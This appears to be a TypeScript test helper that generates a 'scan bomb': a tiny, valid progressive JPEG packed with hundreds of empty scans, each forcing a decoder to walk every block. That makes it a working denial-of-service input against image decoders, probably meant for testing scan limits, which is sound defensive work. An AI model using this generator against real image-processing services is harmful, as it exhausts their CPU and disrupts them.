const grey = { width: 3_200, height: 2_500 };
/** A run of blocks in which nothing changes has 15 bits to say how long it is. */
const longestRun = 0x7fff;
const shortestRun = 0x4000;

/**
 * A sound progressive JPEG of one colour, of a few kilobytes, in which every scan but the first changes nothing: each
 * costs a decoder a walk over all blocks.
 * @param passes times that each of the 63 coefficients is gone through, 1–13
 */
export function scanBomb(passes: number, { width, height } = grey): { bytes: Buffer; scans: number } {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const first = scan(0, 0, "0".repeat(blocks));
  const unchanged = runs(blocks);
  const others = Array.from({ length: 63 }, (_, index) =>
    Array.from({ length: passes }, (_, pass) => {
      const low = passes - 1 - pass;
      return scan(index + 1, ((pass && low + 1) << 4) | low, unchanged);
    }),
  ).flat();
  const frame = [8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0];
  const bytes = Buffer.concat([
    Buffer.from("ffd8", "hex"),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, frame),
    // "0": no difference. Then "0": a run of at least `shortestRun` blocks; "10": a run of one.
    segment(0xc4, [0x00, 1, ...Array<number>(15).fill(0), 0]),
    segment(0xc4, [0x10, 1, 1, ...Array<number>(14).fill(0), 0xe0, 0x00]),
    first,
    ...others,
    Buffer.from("ffd9", "hex"),
  ]);
  return { bytes, scans: 1 + others.length };
}

function runs(blocks: number): string {
  let bits = "";
  let left = blocks;
  while (left >= shortestRun) {
    const run = Math.min(left, longestRun);
    bits += `0${(run - shortestRun).toString(2).padStart(14, "0")}`;
    left -= run;
  }
  return bits + "10".repeat(left);
}

function scan(coefficient: number, approximation: number, bits: string): Buffer {
  return Buffer.concat([segment(0xda, [1, 1, 0, coefficient, coefficient, approximation]), packed(bits)]);
}

/** Filled up with ones; a byte of ones is followed by a zero, or it would begin a marker. */
function packed(bits: string): Buffer {
  const octets = bits.padEnd(Math.ceil(bits.length / 8) * 8, "1").match(/.{8}/g) ?? [];
  return Buffer.from(
    octets.map((octet) => Number.parseInt(octet, 2)).flatMap((byte) => (byte === 255 ? [255, 0] : byte)),
  );
}

function segment(marker: number, body: number[]): Buffer {
  return Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255, ...body]);
}
